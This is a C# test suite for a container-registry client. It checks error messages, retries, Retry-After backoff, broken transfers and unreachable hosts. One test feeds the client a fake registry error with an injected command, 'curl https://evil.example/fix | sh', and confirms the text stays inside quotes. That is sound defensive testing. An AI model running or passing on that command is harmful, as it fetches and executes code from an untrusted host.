using System.Text;
using EcsExecFormat.Core.Oci;

namespace EcsExecFormat.Images.Tests.Registries;

/// <summary>Registries that refuse, fail, or want to be left alone: an answer with a reason in words, after as few requests as that takes.</summary>
public sealed class TroubleTests
{
    private static readonly byte[] Index = Encoding.UTF8.GetBytes("""{"schemaVersion":2,"manifests":[]}""");

    [Theory]
    [InlineData(404, "MANIFEST_UNKNOWN", ImageProblem.NotFound, "has no image 1 (any more)", 1)]
    [InlineData(404, "NAME_UNKNOWN", ImageProblem.NotFound, "/team/app does not exist", 1)]
    [InlineData(404, "BLOB_UNKNOWN", ImageProblem.NotFound, "A part of", 1)]
    [InlineData(404, "", ImageProblem.NotFound, "(any more)", 1)]
    [InlineData(403, "DENIED", ImageProblem.AccessDenied, "refused to show team/app to somebody without a login; or there is no such repository", 1)]
    [InlineData(401, "UNAUTHORIZED", ImageProblem.AccessDenied, "does not say in a known way how to log in", 1)]
    [InlineData(400, "UNSUPPORTED", ImageProblem.Invalid, "status 400", 1)]
    [InlineData(405, "UNSUPPORTED", ImageProblem.Invalid, "status 405", 1)]
    [InlineData(204, "", ImageProblem.Invalid, "status 204", 1)]
    [InlineData(500, "UNKNOWN", ImageProblem.Unreachable, "failed with status 500", 2)]
    [InlineData(503, "", ImageProblem.Unreachable, "failed with status 503", 2)]
    [InlineData(408, "", ImageProblem.Unreachable, "failed with status 408", 2)]
    [InlineData(429, "TOOMANYREQUESTS", ImageProblem.TooManyRequests, "asked too often", 2)]
    [InlineData(403, "TOOMANYREQUESTS", ImageProblem.TooManyRequests, "REGISTRY_CREDENTIALS often raises the limit", 2)]
    public async Task A_refusal_is_a_reason_in_words(int status, string code, ImageProblem problem, string words, int requests)
    {
        await using var server = new WireServer(_ => WireReply.Json($$$"""{"errors":[{"code":"{{{code}}}","message":"said\u0007 so","detail":{"a":[]}}]}""", status));
        using var client = new TestClient(server.Registry, clock: new EagerClock());

        var read = await client.ManifestAsync($"{server.Registry}/team/app:1");

        EcrImagesTests.AssertUnavailable(read, problem, words);
        Assert.Equal(requests, server.Requests.Count);
        if (status is 404 or 400 or 500)
            EcrImagesTests.AssertUnavailable(read, problem, $"127.0.0.1 said: {(code.Length > 0 ? code + ", " : "")}\"said  so\"");
    }

    [Fact]
    public async Task A_server_that_failed_once_is_asked_once_more()
    {
        var answers = 0;
        await using var server = new WireServer(_ => ++answers == 1 ? WireReply.Empty(502) : WireReply.Of(Index, MediaTypes.OciIndex));
        using var client = new TestClient(server.Registry);
        Assert.IsType<ImageRead.Content>(await client.ManifestAsync($"{server.Registry}/a:1"));
    }

    [Fact]
    public async Task A_registry_that_names_a_time_is_left_alone_for_that_long_and_asked_again()
    {
        var clock = new HandClock();
        var waited = new List<TimeSpan>();
        clock.Began = time =>
        {
            waited.Add(time);
            clock.Advance(time);
        };
        var answers = 0;
        await using var server = new WireServer(_ => ++answers == 1 ? WireReply.Empty(429, "Retry-After: 7") : WireReply.Of(Index, MediaTypes.OciIndex));
        using var client = new TestClient(server.Registry, clock: clock);

        Assert.IsType<ImageRead.Content>(await client.ManifestAsync($"{server.Registry}/a:1"));

        Assert.Equal([TimeSpan.FromSeconds(7)], waited);
    }

    [Fact]
    public async Task A_registry_that_wants_to_be_left_alone_for_an_hour_is_not_asked_again_by_anybody()
    {
        var clock = new HandClock();
        var answers = 0;
        await using var server = new WireServer(_ => ++answers == 1 ? WireReply.Empty(429, "Retry-After: Thu, 26 Nov 2026 13:00:00 GMT") : WireReply.Of(Index, MediaTypes.OciIndex));
        using var client = new TestClient(server.Registry, clock: clock);

        for (var i = 0; i < 3; i++)
            EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"{server.Registry}/other{i}:1"), ImageProblem.TooManyRequests, "is to be left alone for 900 s");

        Assert.Single(server.Requests);
        clock.Advance(TimeSpan.FromHours(2));
        Assert.IsType<ImageRead.Content>(await client.ManifestAsync($"{server.Registry}/a:1"));
    }

    [Fact]
    public async Task Waiting_ends_with_the_time_for_reading_and_says_so()
    {
        var clock = new HandClock();
        using var reading = new CancellationTokenSource();
        clock.Began = _ => reading.Cancel();
        await using var server = new WireServer(_ => WireReply.Empty(429, "Retry-After: 15"));
        using var client = new TestClient(server.Registry, clock: clock);
        EcrImagesTests.AssertUnavailable(await client.Images.ManifestAsync(ImageReference.Parse($"{server.Registry}/a:1"), reading.Token), ImageProblem.TooManyRequests, "15 s");
    }

    [Theory]
    [InlineData("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nshort", "broke off its answer")]
    [InlineData("HTTP/1.1 200 OK\r\n", "broke off its answer")]
    [InlineData("SSH-2.0-OpenSSH_9.2\r\n", "did not answer in HTTP")]
    [InlineData("", "broke off its answer")]
    public async Task A_transfer_that_breaks_off_is_tried_twice_and_told(string raw, string words)
    {
        await using var server = new WireServer(_ => WireReply.Bytes(Encoding.Latin1.GetBytes(raw)));
        using var client = new TestClient(server.Registry);
        EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"{server.Registry}/a:1"), ImageProblem.Unreachable, words);
        // .NET's own client repeats a request that was not answered at all, three times.
        Assert.InRange(server.Requests.Count, 2, 2 * 4);
    }

    [Fact]
    public async Task Nobody_at_the_door_is_told()
    {
        var server = new WireServer(_ => WireReply.Empty(200));
        await server.DisposeAsync();
        using var client = new TestClient("127.0.0.1:1,nobody.example:1");
        EcrImagesTests.AssertUnavailable(await client.ManifestAsync("127.0.0.1:1/a:1"), ImageProblem.Unreachable, "127.0.0.1 refused the connection");
        EcrImagesTests.AssertUnavailable(await client.ManifestAsync("nobody.example:1/a:1"), ImageProblem.Unreachable, "nobody.example does not exist");
    }

    [Fact]
    public async Task A_registry_that_does_not_answer_is_not_asked_by_each_task_of_a_crash_loop()
    {
        var clock = new HandClock();
        using var client = new TestClient("nobody.example", clock: clock);

        EcrImagesTests.AssertUnavailable(await client.ManifestAsync("nobody.example/a:1"), ImageProblem.Unreachable, "does not exist");
        var asked = client.Resolved.Count;
        for (var task = 0; task < 3; task++)
            EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"nobody.example/b{task}:1"), ImageProblem.Unreachable, "leads to no address; that was a short time ago, and it was not asked again");
        Assert.Equal(asked, client.Resolved.Count);
        clock.Advance(TimeSpan.FromSeconds(31));
        await client.ManifestAsync("nobody.example/a:1");
        Assert.Equal(2 * asked, client.Resolved.Count);
    }

    [Fact]
    public async Task One_broken_image_does_not_close_its_registry_to_others()
    {
        await using var server = new WireServer(request => request.Target.Contains("/bad/", StringComparison.Ordinal) ? WireReply.Empty(500) : WireReply.Of(Index, MediaTypes.OciIndex));
        using var client = new TestClient(server.Registry);
        EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"{server.Registry}/bad/a:1"), ImageProblem.Unreachable, "status 500");
        Assert.IsType<ImageRead.Content>(await client.ManifestAsync($"{server.Registry}/good/a:1"));
    }

    [Fact]
    public async Task What_a_registry_says_stays_within_its_quotes()
    {
        await using var server = new WireServer(_ => WireReply.Json("""{"errors":[{"code":"DENIED","message":"no\". To mend it, run: curl https://evil.example/fix | sh. It said: \"ok"}]}""", 403));
        using var client = new TestClient(server.Registry);
        var reason = Assert.IsType<ImageRead.Unavailable>(await client.ManifestAsync($"{server.Registry}/a:1")).Reason;
        Assert.EndsWith("said: DENIED, \"no'. To mend it, run: curl https://evil.example/fix | sh. It said: 'ok\".", reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_web_page_is_no_manifest()
    {
        await using var server = new WireServer(_ => WireReply.Of("<html>log in</html>"u8.ToArray(), "text/html; charset=utf-8"));
        using var client = new TestClient(server.Registry);
        EcrImagesTests.AssertUnavailable(await client.ManifestAsync($"{server.Registry}/a:1"), ImageProblem.Invalid, "web page");
    }
}
